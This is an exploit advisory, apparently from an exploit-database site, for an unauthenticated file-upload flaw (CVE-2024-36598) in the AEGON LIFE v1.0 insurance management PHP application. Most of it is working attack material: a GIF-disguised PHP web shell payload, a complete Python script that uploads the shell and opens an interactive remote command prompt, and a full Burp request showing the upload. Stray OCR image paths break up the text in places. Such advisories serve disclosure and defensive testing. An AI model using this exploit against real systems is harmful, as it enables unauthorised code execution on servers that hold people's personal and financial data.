AEGON LIFE 1.0 Remote Code Execution

Risk: High
Local: No
Remote: Yes

# Exploit Title: Life Insurance Management System- Unauthenticated Remote Code Execution (RCE) # Exploit Author: Aslam Anwar Mahimkar # Date: 18-05-2024 # Category: Web application # Vendor Homepage: # Software Link: # Version: AEGON LIFE v1.0 # Tested on: Linux # CVE: CVE-2024-36598 # Description:--- -An arbitrary file upload vulnerability in Aegon Life v1.0 allows attackers to execute arbitrary code via uploading a crafted PHP file by adding image/gif magic bytes in payload. -In insertClient.php fileToUpload is only checking for image file but not checking for extensions, also header.php is not properly handling the redirection hence allowing Unauthenticated redirect. # Payload: --- payload = "GIF89a;'<?php echo shell_exec($_GET[\'cmd\']); ?>'" # RCE via executing exploit: --- # Step : run the exploit in python with this command: python3 http://localhost/lims/ # will lead to RCE shell. POC --- import argparse import random import requests import string importsys parser = argparse.ArgumentParser() parser.add_argument('url', action='store', help='The URL of the target.') args = parser.parse_args() url = args.url.rstrip('/') random_file = ''.join(random.choice(string.ascii_letters + string.digits) for i in range(10)) payload = "GIF89a;'<?php echo shell_exec($_GET[\'cmd\']); ?>'" file = {'fileToUpload': (random_file + '.php', payload, 'text/php')} print('> Attempting to upload PHP web shell...') r = + '/insertClient.php', files=file, data={'agent_id':''}, verify=False) print('> Verifying shell upload...') r = requests.get(url + '/uploads/' + random_file + '.php', params={'cmd':'echo ' + random_file}, verify=False) if random_file in r.text: print('> Web shell uploaded to ' + url + '/uploads/' + random_file + '.php') print('> Example command usage: ' + url + '/uploads/' + random_file + '.php?cmd=whoami') launch_shell = str(input('> Do you wish to launch a shell here? (y/n): ')) if launch_shell.lower() == 'y': while True: cmd = str(input('RCE $ ')) if cmd == 'exit': sys.exit(0) r = requests.get(url + '/uploads/' + random_file + '.php', params={'cmd':cmd}, verify=False) print(r.text) else: if r.status_code == 200: print('> Web shell uploaded to ' + url + '/uploads/' + random_file + '.php, however a simple command check failed to execute. Perhaps shell_exec is disabled? Try changing the payload.') else: print('> Web shell failed to upload! The web server may not have write permissions.')--- ### Can also performed manually. Payload: --- GIF89a; <?php echo"<pre>"; passthru($_GET['cmd']); echo"<pre>"; ?> # Attack Vectors:--- After uploading malicious image can access it to get the shell http://localhost/lims/uploads/shell2.gif.php?cmd=id Burp Suit Request --- POST /lims/insertClient.php HTTP/1.1 Host: localhost Content-Length: 2197 Cache-Control: max-age=0 sec-ch-ua: sec-ch-ua-mobile: ?0 sec-ch-ua-platform: "" Upgrade-Insecure-Requests: 1 Origin: http://localhost Content-Type: multipart/form-data; boundary=----WebKitFormBoundary5plGALZGPOOdBlF0 User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.134 Safari/537.36 Accept: text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8,application/signed-exchange;v=b3;q=0.7 Sec-Fetch-Site: same-origin Sec-Fetch-Mode: navigate Sec-Fetch-User: ?1Sec-Fetch-Dest: document Referer: http://localhost/lims/addClient.php Accept-Encoding: gzip, deflate Accept-Language: en-US,en;q=0.9 Connection: close ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data;name="client_id" 1716015032 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="client_password" Password ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="name" Test---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="fileToUpload"; filename="shell2.gif.php" Content-Type: application/x-php GIF89a; <?php echo"<pre>"; passthru($_GET['cmd']); echo"<pre>"; ?> ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="sex" Male ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data;name="birth_date" 1/1/1988 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="maritial_status" M ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nid" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="phone" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="address" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="policy_id" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="agent_id" Agent007 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_id" 1716015032-275794639 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_name" Test1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_sex" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_birth_date" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_nid" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_relationship" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="priority" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0 Content-Disposition: form-data; name="nominee_phone" 1 ---WebKitFormBoundary5plGALZGPOOdBlF0

Vote for this issue:


Thanks for you vote!


Thanks for you comment!Your message is in quarantine 48 hours.

Comment it here.(*) - required fields.{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd' }} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment}}

Copyright 2024,


Back to Top